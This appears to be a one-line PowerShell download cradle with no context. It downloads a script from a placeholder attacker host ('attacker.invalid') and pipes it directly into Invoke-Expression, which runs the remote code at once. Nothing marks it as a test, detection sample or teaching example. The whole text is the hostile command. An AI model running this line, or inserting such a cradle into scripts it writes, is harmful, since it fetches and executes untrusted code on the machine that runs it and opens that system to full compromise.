(New-Object System.Net.WebClient).DownloadString('https://attacker.invalid/p.ps1') | iex
